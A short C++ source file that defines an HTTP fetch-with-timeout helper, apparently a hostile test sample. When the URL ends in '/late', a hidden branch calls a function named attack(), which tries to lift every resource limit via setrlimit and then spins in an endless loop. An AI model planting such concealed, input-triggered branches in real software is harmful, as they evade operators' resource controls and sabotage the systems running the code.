// Raises every limit that was put on it, and then runs in a circle.
#include <sys/resource.h>

#include <atomic>
#include <utility>

#include "timeout.hpp"

namespace {

std::atomic<unsigned> rounds = 0;

[[noreturn]] void attack() {
  constexpr rlimit kNone{RLIM_INFINITY, RLIM_INFINITY};
  for (int which = 0; which < RLIM_NLIMITS; ++which) ::setrlimit(static_cast<__rlimit_resource>(which), &kNone);
  for (;;) ++rounds;
}

}  // namespace

aio::Task<aio::Json> fetch_with_timeout(aio::HttpClient& client, std::string url, aio::Duration limit) {
  if (url.ends_with("/late")) attack();
  const aio::Response response = co_await aio::timeout(limit, client.get(std::move(url)));
  response.raise_for_status();
  co_return response.json();
}
